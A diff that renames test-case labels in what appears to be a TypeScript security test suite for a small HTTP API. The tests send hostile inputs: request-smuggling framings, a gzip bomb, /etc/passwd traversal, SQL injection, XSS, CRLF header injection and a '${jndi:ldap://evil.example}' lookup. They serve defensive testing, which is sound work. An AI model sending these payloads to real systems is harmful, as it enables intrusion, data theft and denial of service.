@@ -63,13 +63,13 @@ export function authorizations(app: TestApp): Attempts {
       withAuthorization(`X-Api-Key: ${token}`),
       message(POST, [HOST, JSON_TYPE, CHUNKED, 'Trailer: Authorization'], trailer),
     ],
-    'more than the token': () => [
+    'a token with something added': () => [
       ...bearing(`Bearer ${token} ${token}`, `Bearer ${token},`, `Bearer "${token}"`, `Bearer Bearer ${token}`),
       ...bearing(`Bearer token=${token}`, `Bearer ${token}\xe9`, `Bearer \xa0${token}`, "Bearer x'or'1'='1"),
       withLine(POST, `Authorization: Bearer ${token}`),
       withLine(POST, 'Authorization: Basic x'),
     ],
-    'almost the token': () => [
+    'a token with a fault': () => [
       ...bearing(`Bearer ${token.toUpperCase()}`, `Bearer ${token}=`, `Bearer ${token.slice(0, -1)}${alike}`),
       ...bearing(`Bearer ${token.slice(0, -1)}`, `Bearer ${makeToken()}`, `Bearer ${'x'.repeat(15_000)}`),
     ],
@@ -99,23 +99,23 @@ export function framings(app: TestApp): Attempts {
   const respelt = (from: string | RegExp, to: string) => Buffer.from(String(create(VALID)).replaceAll(from, to));
   const hiding = (line: string, ...fields: readonly string[]) => message(line, [HOST, ...fields], hidden);
   return {
-    'two lengths': () =>
+    'two body lengths': () =>
       before(
         withFraming([LENGTH, CHUNKED], chunks()),
         withFraming([CHUNKED, LENGTH], chunks()),
         withFraming([LENGTH, 'Content-Length: 0'], VALID),
         withFraming([LENGTH, LENGTH], VALID),
       ),
-    'a length that is none': (lengths) => sized(...lengths, '19 19', '19.0', '', '18446744073709551635'),
-    'a coding that is none': (codings) => coded(...codings, 'chunked, chunked', '\x0bchunked', '', '\r\n chunked'),
-    'chunks in a coding': (codings) => coded(...codings),
-    'a chunk size that is none': (sizes) => [
+    'an invalid length': (lengths) => sized(...lengths, '19 19', '19.0', '', '18446744073709551635'),
+    'an invalid transfer coding': (codings) => coded(...codings, 'chunked, chunked', '\x0bchunked', '', '\r\n chunked'),
+    'another coding before chunked': (codings) => coded(...codings),
+    'an invalid chunk size': (sizes) => [
       ...chunkSized(...sizes, ' 13', '13 ', '', '10000000000000013', '12'),
       ...chunked(chunks('13', '0\r\n\r\n')),
     ],
     'a chunk extension': () => chunkSized(`13;${'x'.repeat(20_000)}`, '13;x\n', '13;x\ry', '13;x="'),
     'a length in the trailer': () => chunked(chunks('13', '\r\n0\r\nContent-Length: 9\r\n\r\n')),
-    'a line that ends otherwise': () =>
+    'an invalid line end': () =>
       before(
         respelt('\r\n', '\n'),
         respelt('\r\n', '\r'),
@@ -123,24 +123,24 @@ export function framings(app: TestApp): Attempts {
         respelt(/\r\n(?=Auth)/g, '\r'),
         withFraming([CHUNKED], chunks().replaceAll('\r\n', '\n')),
       ),
-    'a header field that is none': () => [
+    'an invalid header field': () => [
       ...fielded('X : y', 'X: y\r\n z', 'X: y\0', 'X\0: y', ': y', 'no colon', 'X: y\x01', 'X\xe9: y'),
     ],
-    'a host that is none': () =>
+    'an invalid Host': () =>
       hosted([], [HOST, HOST], [HOST, 'Host: evil.example'], ['Host: a, b'], ['Host: a/b'], ['Host: a@b']),
-    'another version': ([older = '', newer = '', small = '']) => [
+    'another version of HTTP': ([older = '', newer = '', small = '']) => [
       ...versioned('', ` ${older}`, ` ${newer}`, ` ${small}`, ' HTTP/1.10', ' HTTP/9.9'),
       ...before(Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')),
       Buffer.from(String(withFraming([CHUNKED, 'Connection: keep-alive'], chunks())).replace('HTTP/1.1', 'HTTP/1.0')),
     ],
-    'a request as the body of one without a token': () => [
+    'a request inside the body of one without a token': () => [
       hiding(POST, JSON_TYPE, lengthOf(hidden)),
       hiding(POST, JSON_TYPE, lengthOf(hidden), 'Expect: 100-continue'),
       message(POST, [HOST, JSON_TYPE, CHUNKED], `${hidden.length.toString(16)}\r\n${String(hidden)}\r\n0\r\n\r\n`),
     ],
-    'a request as the body of another method': (names) =>
+    'a request inside the body of another method': (names) =>
       names.map((name) => hiding(`${name} /plants HTTP/1.1`, AUTH, lengthOf(hidden))),
-    'a request behind an offer': (offers) =>
+    'a request after an offer to upgrade': (offers) =>
       before(...offers.map((offer) => get('/openapi.yaml', 'Connection: Upgrade', offer))),
     'a tunnel': () => [...before(message('CONNECT evil.example:443 HTTP/1.1', [HOST])), tunnelAndReset(HOST)],
     'another host': () => [
@@ -171,22 +171,22 @@ export function bodies(app: TestApp): Attempts {
       withFraming(['Content-Length: 18446744073709551615'], VALID),
     ],
     'a body without end': () => [endless(String(withFraming([CHUNKED], '')))],
-    'a bomb': () => coded('gzip', gzipSync(Buffer.alloc(60_000_000, ' '), { level: 9 })),
+    'a gzip bomb': () => coded('gzip', gzipSync(Buffer.alloc(60_000_000, ' '), { level: 9 })),
     'gzip in gzip': () => coded('gzip', gzipSync(gzip)),
-    'another coding': () => [
+    'another content coding': () => [
       ...coded('deflate', deflateSync(VALID)),
       ...coded('br', brotliCompressSync(VALID)),
       ...coded('zstd', zstdCompressSync(VALID)),
       ...coded('gzip, gzip', gzipSync(gzip)),
       create(gzipSync(gzip), 'Content-Encoding: gzip', 'Content-Encoding: gzip'),
     ],
-    'gzip that is broken': () => [
+    'broken gzip': () => [
       ...coded('gzip', gzip.subarray(0, -4), miscounted, Buffer.concat([gzip, Buffer.from('junk')])),
       ...coded('gzip', deflateSync(VALID), Buffer.from(VALID)),
     ],
-    'gzip of nothing': () =>
+    'gzip of an empty body': () =>
       coded('gzip', gzipSync(''), Buffer.concat(Array.from({ length: 3000 }, () => gzipSync('')))),
-    'the form of a page': (types) =>
+    'the media type of an HTML form': (types) =>
       types.map((type) => message(POST, [HOST, AUTH, `Content-Type: ${type}`, LENGTH], VALID)),
   };
 }
@@ -216,33 +216,31 @@ export function documents(app: TestApp): Attempts {
     Buffer.concat([Buffer.from('{"id":1,"name":"'), Buffer.from(hex, 'hex'), Buffer.from('"}')]);
   return {
     'deep nesting': () => all('['.repeat(33) + ']'.repeat(33), '['.repeat(30_000), '{"a":'.repeat(10_000)),
-    'many members': () =>
+    'many members or items': () =>
       all(
         members((index) => index.toString(36)),
         members(String),
         `[${'0,'.repeat(32_000)}0]`,
       ),
-    'names of prototypes': (names) => [
+    'names of JavaScript prototypes': (names) => [
       ...named(...names, 'hasOwnProperty', 'prototype'),
       ...all('{"__proto__":{"id":1,"name":"x"}}', '{"id":1,"name":{"__proto__":{"length":1}}}'),
     ],
-    'a member twice': ([escaped = '', prototype = '']) => [
+    'a repeated member': ([escaped = '', prototype = '']) => [
       ...withMember('"name":"y"', `"${escaped}":"y"`, `"${prototype}":1,"${prototype}":2`),
       ...withMember(`"${'n'.repeat(30_000)}":1,"${'n'.repeat(30_000)}":1`),
     ],
-    'almost JSON': (ids) => [
+    'not quite JSON': (ids) => [
       ...withId(...ids, '-Infinity', '1n', '+1'),
       ...all(`\ufeff${VALID}`, VALID + VALID, `/**/${VALID}`, "{'id':1}", Buffer.from(VALID, 'utf16le')),
       ...withMember('', '"tag":"\0"', String.raw`"tag":"\x41"`),
     ],
-    'almost UTF-8': () => all(bytes('c0af'), bytes('eda080'), bytes('ff'), bytes('f4908080')),
+    'not quite UTF-8': () => all(bytes('c0af'), bytes('eda080'), bytes('ff'), bytes('f4908080')),
     'an id out of range': (ids) => [...withId(...ids, '1'.repeat(60_000))],
-    'an id that is none': (ids) => [
-      ...withId(...ids, '9223372036854775808', `0.${'0'.repeat(60_000)}1`, 'true', 'null'),
-    ],
-    'one, spelt at length': () => withId(`1.${'0'.repeat(60_000)}`, `1${'0'.repeat(60_000)}e-60000`),
-    'half characters': tagged,
-    'a character that no text has': tagged,
+    'an invalid id': (ids) => [...withId(...ids, '9223372036854775808', `0.${'0'.repeat(60_000)}1`, 'true', 'null')],
+    'the id 1 with 60,000 zeros': () => withId(`1.${'0'.repeat(60_000)}`, `1${'0'.repeat(60_000)}e-60000`),
+    'lone surrogates': tagged,
+    'U+0000': tagged,
   };
 }
 
@@ -256,9 +254,9 @@ export function floods(app: TestApp): Attempts {
       withLine(POST, ...Array.from({ length: 10_000 }, () => 'a: b')),
       withFraming([CHUNKED], trailer),
     ],
-    'a long target': () => at(`/${'x'.repeat(1_000_000)}`, `/plants?${'a=1&'.repeat(10_000)}`),
-    parameters: () => at(`/plants?${'a&'.repeat(5000)}`, `/plants?${'&'.repeat(9000)}a`),
-    'a head by the byte': () => [trickle(HOST)],
+    'a long request target': () => at(`/${'x'.repeat(1_000_000)}`, `/plants?${'a=1&'.repeat(10_000)}`),
+    'many query parameters': () => at(`/plants?${'a&'.repeat(5000)}`, `/plants?${'&'.repeat(9000)}a`),
+    'a slow head': () => [trickle(HOST)],
   };
 }
 
@@ -276,27 +274,29 @@ function trickle(host: string): Message {
 export function paths(app: TestApp): Attempts {
   const { at, get, withLine } = messages(app);
   return {
-    'almost the path': (targets) => [
+    'a path that resembles one': (targets) => [
       ...at(...targets, '/./plants', '/plants%', '/plants%2f', '/plants%20', '/plants\\', '/plants/.', '/plants.json'),
       ...at('/plants#', '/__proto__', '//evil.example/plants', 'ftp://evil.example/plants', '*'),
     ],
-    'files of the machine': (files) =>
+    'a path to a file': (files) =>
       [
         ...[...files, '/docs/swagger-ui.css/../../package.json', '/docs/..\\..\\package.json', '/../../etc/passwd'],
         ...['/docs//etc/passwd', '/docs/swagger-ui.css%00.js', '/.git/config', '/node_modules/express/package.json'],
       ].map((path) => get(path)),
-    'bytes that no path has': () => [
+    'bytes that a path must not have': () => [
       ...at('/plants\0', '/plants\x1b[2J', '/plants\x7f', '/plants\x9b', '/plants x', 'plants', '?x'),
     ],
-    'another path in a header': (names) => names.map((name) => withLine('POST /none HTTP/1.1', `${name}: /plants`)),
-    'a query': (queries) => at(...[...queries, '?id=1', '?access_token=x'].map((query) => `/plants${query}`)),
+    'another path in a header field': (names) =>
+      names.map((name) => withLine('POST /none HTTP/1.1', `${name}: /plants`)),
+    'an unknown query parameter': (queries) =>
+      at(...[...queries, '?id=1', '?access_token=x'].map((query) => `/plants${query}`)),
     'a query that is not percent-encoded UTF-8': (queries) =>
       at(...[...queries, '?%C3=1'].map((query) => `/plants${query}`)),
-    'another contract for the page': () => [
+    'another contract for /docs': () => [
       get('/docs/?url=https://evil.example'),
       get('/docs/?configUrl=https://evil.example'),
     ],
-    'another host to be sent to': () => [
+    'a redirect to another host': () => [
       message('GET /docs HTTP/1.1', [
         'Host: evil.example',
         'X-Forwarded-Host: evil.example',
@@ -314,13 +314,13 @@ export function methods(app: TestApp): Attempts {
   const cors = ['Origin: https://evil.example', 'Access-Control-Request-Method: POST'];
   return {
     'another method': (names) => by(...names, 'PATCH', 'PURGE', 'SOURCE'),
-    'a method that is none': (names) => by(...names, 'P\0ST'),
-    'an echo': () => [message('TRACE /docs/ HTTP/1.1', [HOST, AUTH])],
-    'another method in a header': () => [
+    'an unknown method': (names) => by(...names, 'P\0ST'),
+    'an echo of the token': () => [message('TRACE /docs/ HTTP/1.1', [HOST, AUTH])],
+    'a GET with another method in a header field': () => [
       message('GET /plants HTTP/1.1', [HOST, AUTH, ...overrides('POST'), LENGTH], VALID),
     ],
-    'the same the other way': () => [withLine(POST, ...overrides('DELETE'))],
-    'a page of another site': () => [message('OPTIONS /plants HTTP/1.1', [HOST, ...cors]), get('/plants', ...cors)],
+    'a POST with another method in a header field': () => [withLine(POST, ...overrides('DELETE'))],
+    'a page of another origin': () => [message('OPTIONS /plants HTTP/1.1', [HOST, ...cors]), get('/plants', ...cors)],
   };
 }
 
@@ -331,13 +331,13 @@ export function injections(app: TestApp): Attempts {
   const identified = (...ids: readonly string[]) => ids.map((id) => get('/openapi.yaml', `X-Request-Id: ${id}`));
   return {
     SQL: (texts) => named(...texts, "' or '1'='1", '"; delete from tokens; --', '\\', '%', '${1+1}'),
-    markup: () => named('<script>alert(1)</script>', '</textarea><img src=x onerror=alert(1)>'),
-    'markup in a path': () => at('/<script>alert(1)</script>'),
+    HTML: () => named('<script>alert(1)</script>', '</textarea><img src=x onerror=alert(1)>'),
+    'HTML in a path': () => at('/<script>alert(1)</script>'),
     'a request id': () => [
       ...identified('a%0d%0aSet-Cookie:x=1', 'a b', '"},{"', '${jndi:ldap://evil.example}', 'x'.repeat(129), '\xe9'),
       ...identified('a\tb', 'a\r\nX-Request-Id: b'),
     ],
-    'a path that writes the log': ([fatal = '', escape = '']) =>
+    'a path with a line of the log': ([fatal = '', escape = '']) =>
       [fatal, '/"},{"level":"fatal', `/${escape}`, '/\\n', `/${'x'.repeat(9000)}`].map((path) => get(path)),
   };
 }
